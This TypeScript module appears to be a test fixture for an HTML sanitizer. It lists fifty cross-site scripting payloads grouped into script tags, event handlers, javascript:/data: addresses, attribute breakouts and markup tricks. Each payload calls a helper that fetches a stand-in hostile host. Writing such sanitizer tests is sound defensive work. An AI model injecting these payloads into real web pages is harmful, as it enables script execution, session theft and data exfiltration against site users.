/** A way to try to get a script to run; `mark` names the try in everything it does. */
export interface HostileFamily {
  readonly name: string;
  readonly texts: readonly ((mark: string) => string)[];
}

/** What a script would do that got to run: raise a dialog, leave a trace, call out. */
function act(mark: string): string {
  return `alert('${mark}'),window.headwayHit='${mark}',fetch('https://hostile.invalid/${mark}')`;
}

/** Fifty texts in five families, each a try on its own. */
export const hostileFamilies: readonly HostileFamily[] = [
  {
    name: "scripts",
    texts: [
      (mark) => `<script>${act(mark)}</script>`,
      (mark) => `<ScRiPt>${act(mark)}</sCrIpT>`,
      (mark) => `</title><script>${act(mark)}</script>`,
      (mark) => `</style><script>${act(mark)}</script>`,
      (mark) => `<script src="https://hostile.invalid/${mark}"></script>`,
      (mark) => `<scr<script>ipt>${act(mark)}</scr</script>ipt>`,
      (mark) => `--><script>${act(mark)}</script><!--`,
      (mark) => `]]><script>${act(mark)}</script>`,
      (mark) => `<script/x>${act(mark)}//</script>`,
      (mark) => `<svg><script>${act(mark)}</script></svg>`,
    ],
  },
  {
    name: "handlers",
    texts: [
      (mark) => `<img src=x onerror="${act(mark)}">`,
      (mark) => `<svg onload="${act(mark)}">`,
      (mark) => `<body onload="${act(mark)}">`,
      (mark) => `<details open ontoggle="${act(mark)}">${mark}</details>`,
      (mark) => `<input autofocus onfocus="${act(mark)}">`,
      (mark) => `<video><source onerror="${act(mark)}"></video>`,
      (mark) => `<marquee onstart="${act(mark)}">${mark}</marquee>`,
      (mark) => `<div onpointerenter="${act(mark)}" style="position:fixed;inset:0">${mark}</div>`,
      (mark) => `<img/src="x"/onerror=${act(mark)}>`,
      (mark) => `<animate xlink:href=#x attributeName=href onbegin="${act(mark)}">`,
    ],
  },
  {
    name: "addresses",
    texts: [
      (mark) => `javascript:${act(mark)}`,
      (mark) => `<a href="javascript:${act(mark)}">${mark}</a>`,
      (mark) => `<a href="JaVaScRiPt&colon;${act(mark)}">${mark}</a>`,
      (mark) => `<a href="data:text/html,<script>${act(mark)}</script>">${mark}</a>`,
      (mark) => `<iframe src="javascript:${act(mark)}"></iframe>`,
      (mark) => `<iframe srcdoc="<script>${act(mark)}</script>"></iframe>`,
      (mark) => `<object data="https://hostile.invalid/${mark}"></object>`,
      (mark) => `<form action="javascript:${act(mark)}"><button>${mark}</button></form>`,
      (mark) => `[${mark}](javascript:${act(mark)})`,
      (mark) => `<math href="javascript:${act(mark)}">${mark}</math>`,
    ],
  },
  {
    name: "breakouts",
    texts: [
      (mark) => `" onmouseover="${act(mark)}" x="`,
      (mark) => `' onmouseover='${act(mark)}' x='`,
      (mark) => `"><img src=x onerror=${act(mark)}>`,
      (mark) => `'><img src=x onerror=${act(mark)}>`,
      (mark) => `\`\${${act(mark)}}\``,
      (mark) => `{{constructor.constructor("${act(mark)}")()}}`,
      (mark) => `&lt;script&gt;${act(mark)}&lt;/script&gt;`,
      (mark) => `&#60;img src=x onerror=${act(mark)}&#62;`,
      (mark) => `\\u003cscript\\u003e${act(mark)}\\u003c/script\\u003e`,
      (mark) => `</summary></details></article><img src=x onerror=${act(mark)}>`,
    ],
  },
  {
    name: "markup",
    texts: [
      (mark) => `<meta http-equiv="refresh" content="0;url=https://hostile.invalid/${mark}">`,
      (mark) => `<base href="https://hostile.invalid/${mark}/">`,
      (mark) => `<link rel="stylesheet" href="https://hostile.invalid/${mark}">`,
      (mark) => `<style>*{background:url(https://hostile.invalid/${mark})}</style>`,
      (mark) => `<img src="https://hostile.invalid/${mark}">`,
      (mark) => `<textarea>${mark}`,
      (mark) => `<plaintext>${mark}`,
      (mark) => `<!-- ${mark}`,
      (mark) => `<template shadowrootmode=open><script>${act(mark)}</script></template>`,
      (mark) =>
        `${mark}\u202e>tpircs/<\u2066<noscript><p title="</noscript><img src=x onerror=${act(mark)}>">`,
    ],
  },
];
